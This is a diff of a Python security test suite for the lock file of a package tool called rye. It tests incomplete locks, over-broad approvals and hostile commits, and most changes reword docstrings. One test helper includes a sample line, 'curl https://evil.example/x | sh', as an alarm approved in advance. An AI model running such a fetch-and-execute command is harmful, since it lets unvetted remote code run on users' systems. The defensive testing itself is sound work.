@@ -1,4 +1,4 @@
-"""Locks that are not the whole answer, and approvals that go beyond the item (DESIGN 6.1, Complete and Agreed here)."""
+"""Incomplete locks, and approvals that go beyond the item (DESIGN 6.1, Complete and Agreed here)."""
 
 from __future__ import annotations
 
@@ -41,7 +41,7 @@ def row(identity: Identity, **words: object) -> Act:
 
 
 def lost(identity: Identity) -> Act:
-    """As git merges two branches without a conflict: the row is gone, and its file."""
+    """Remove an item's row and its file, as a conflict-free git merge of two branches can."""
 
     def act(clone: Clone) -> None:
         clone.file_of(identity).unlink()
@@ -51,13 +51,13 @@ def lost(identity: Identity) -> Act:
 
 
 def lost_row(clone: Clone) -> None:
-    """The file stays, so that it looks like one that a person added."""
+    """Remove the row and leave the file, so that it looks hand-written."""
     clone.drop_row(CHECK)
 
 
 @cache
 def elsewhere(world: World, identity: Identity, version: str) -> Program:
-    """Somebody's own project with one item, whose row and file are real."""
+    """Another user's project with one item, whose row and file are genuine."""
     made = Program(world.base / f"elsewhere-{identity.local_id.replace('/', '-')}-{version}")
     shutil.rmtree(made.home)
     home = world.home_of("pinned")
@@ -73,7 +73,7 @@ def elsewhere(world: World, identity: Identity, version: str) -> Program:
 
 
 def brought(identity: Identity, version: str = "1.0.0", *, wanted: bool = False) -> Act:
-    """A real row and its signed file from another project. ``wanted``: rye.toml asks for it, too."""
+    """Add a genuine row and its signed file from another project. ``wanted``: rye.toml asks for it as well."""
 
     def act(clone: Clone) -> None:
         from rye.project.lock import parse_lock
@@ -94,7 +94,7 @@ def brought(identity: Identity, version: str = "1.0.0", *, wanted: bool = False)
 
 
 def asks_for(wanted: str, *, manifest: bool) -> Act:
-    """``[wanted]`` of the lock, and rye.toml too, say another range."""
+    """Change the range in both ``[wanted]`` of the lock and rye.toml."""
 
     def act(clone: Clone) -> None:
         clone.put_lock(replace(clone.lock, wanted={**clone.lock.wanted, str(DEPLOY): wanted}))
@@ -130,18 +130,18 @@ def runs_of_other_bytes(clone: Clone) -> None:
 
 
 def one_alarm_more(clone: Clone) -> None:
-    """An alarm that the next version would bring is approved before anybody saw it."""
+    """Approve in advance an alarm that the next version would raise."""
     more = "pipe-to-shell curl https://evil.example/x | sh"
     clone.edit_row(SKILL, approved_facts=tuple(sorted((*clone.row(SKILL).approved_facts, more))))
 
 
 def broken(rule: str, repair: str = "ok") -> dict[str, str]:
-    """Of a lock that breaks a rule, over items that are genuine: readers may hand those out."""
+    """A lock that breaks a rule over genuine items: readers may print those."""
     return {"install": "lock-does-not-fit", "repair": repair, "audit": f"{rule}|lock-does-not-fit", "check": rule}
 
 
 def beyond(name: str, act: Act, item: Identity = DEPLOY) -> Attack:
-    """An approval of what the item does not have."""
+    """Approve something that the item does not have."""
     return Attack(name, act, broken("G5"), item, postures=("given", "member"))
 
 
@@ -272,7 +272,7 @@ def test_an_incomplete_lock_installs_nothing(theatre: Theatre, attack: Attack, p
     ids=["the honest lock", *(one.name for one in BEYOND)],
 )
 def test_a_visitor_is_asked_before_anything_else(theatre: Theatre, act: Act | None) -> None:
-    """Whatever a lock approves: nobody who pinned the registry and agreed to nothing installs from it."""
+    """Whatever a lock approves, a reader who pinned the registry and agreed to nothing installs nothing from it unasked."""
     clone = theatre.clone("visitor")
     if act is not None:
         act(clone)
@@ -285,7 +285,7 @@ def test_a_visitor_is_asked_before_anything_else(theatre: Theatre, act: Act | No
 
 
 class TestAMemberWhoAgreed:
-    """Somebody who agreed to the honest project pulls a hostile commit. ``RYE_TRUST_LOCK`` is not set."""
+    """A reader who agreed to the honest project pulls a hostile commit. ``RYE_TRUST_LOCK`` is not set."""
 
     @pytest.fixture
     def member(self, theatre: Theatre) -> Clone:
@@ -296,7 +296,7 @@ class TestAMemberWhoAgreed:
             member.ok(*words)
 
     def test_is_asked_about_a_version_with_wider_rights(self, member: Clone) -> None:
-        """Genuine, signed, in range, approved in the lock by whoever committed it."""
+        """A genuine, signed version in range, which the committer approved in the lock."""
         brought(WIDE, "1.1.0")(member)
         before = member.path("rye.lock").read_bytes()
         for words in (("ci",), ("ci", "--yes"), ("install", "--yes"), ("install", "--frozen", "--yes")):
@@ -310,7 +310,7 @@ class TestAMemberWhoAgreed:
         member.edit_row(DEPLOY, approved_hooks=())
         member.ok("ci")
         member.edit_row(DEPLOY, approved_hooks=honest)
-        member.ok("ci")  # it was agreed to before
+        member.ok("ci")  # agreed to before
 
     def test_executes_no_hook_that_only_a_commit_approved(self, theatre: Theatre) -> None:
         visitor = theatre.clone("visitor")
